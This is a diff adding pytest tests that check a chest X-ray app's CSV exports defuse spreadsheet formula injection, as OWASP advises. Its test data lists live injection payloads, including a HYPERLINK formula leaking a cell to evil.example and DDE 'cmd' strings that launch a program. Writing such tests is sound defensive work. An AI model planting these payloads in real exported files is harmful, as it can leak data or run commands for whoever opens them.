@@ -147,3 +147,48 @@ def test_a_results_folder_that_cannot_be_written_answers_503_and_saved_results_s
 def test_the_worklist_is_never_cached(client):
     response = client.get("/worklist")
     assert response.status_code == 200 and response.headers["Cache-Control"] == "no-store"
+
+
+# ---------------------------------------------------------------- CSV formula injection
+
+FORMULAS = ['=HYPERLINK("evil.example?leak="&A1,"open")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
+            "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]
+
+
+@pytest.mark.parametrize("cell, written", [
+    *((formula, "'" + formula) for formula in FORMULAS),
+    ("-0.5", "-0.5"), ("+1", "+1"), ("0.123456", "0.123456"), ("chest.png", "chest.png"), (0.25, 0.25), (None, None),
+])
+def test_spreadsheet_cells_follow_owasps_rule(cell, written):
+    from chestxray.fileio import spreadsheet_cell
+
+    assert spreadsheet_cell(cell) == written
+
+
+def test_the_batch_csv_writes_formula_like_file_names_as_text(client):
+    import csv
+
+    ids = [saved_id(client) for _ in FORMULAS[:4]]
+    names = [f"{formula}.png" for formula in FORMULAS[:4]]
+    names = [name.replace("/", "-") for name in names]  # a file name has no slash (the page shows the last part)
+    response = client.post("/results.csv", data={"id": ids, "name": names, "error": [""] * 4})
+    rows = list(csv.DictReader(io.StringIO(response.get_data(as_text=True))))
+    assert [row["file"] for row in rows] == ["'" + name for name in names]
+    assert all(not value.startswith(("=", "+", "@")) for row in rows for value in row.values())
+    assert all(0 <= float(row["top_probability"]) <= 1 for row in rows), "numbers stay numbers"
+
+
+def test_the_cli_csv_writes_formula_like_paths_as_text(tiny_checkpoint, tmp_path, monkeypatch, capsys):
+    import csv
+
+    import predictions
+
+    monkeypatch.chdir(tmp_path)
+    name = "=HYPERLINK(\"evil.example\",\"x\").png"
+    (tmp_path / name).write_bytes(NIH_PNG.read_bytes())
+    code = predictions.main(predictions.get_args_parser().parse_args(
+        ["--checkpoint", str(tiny_checkpoint), "--device", "cpu", "--allow-untrusted", "--csv", "out.csv", name]))
+    capsys.readouterr()
+    assert code == 0
+    rows = list(csv.DictReader(open(tmp_path / "out.csv", encoding="utf-8")))
+    assert rows[0]["path"] == "'" + name
